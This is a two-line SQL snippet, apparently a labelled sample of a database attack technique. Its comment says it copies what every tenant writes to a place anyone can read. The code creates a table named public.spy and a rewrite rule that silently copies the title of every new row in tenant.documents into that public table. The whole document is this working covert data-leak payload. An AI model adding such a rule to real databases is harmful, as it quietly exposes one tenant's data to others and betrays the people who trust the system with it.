-- A rule copies what every tenant writes to where one can read it.
-- rule: rewrite-rule
CREATE TABLE public.spy (body text); CREATE RULE copy AS ON INSERT TO tenant.documents DO ALSO INSERT INTO public.spy VALUES (NEW.title);
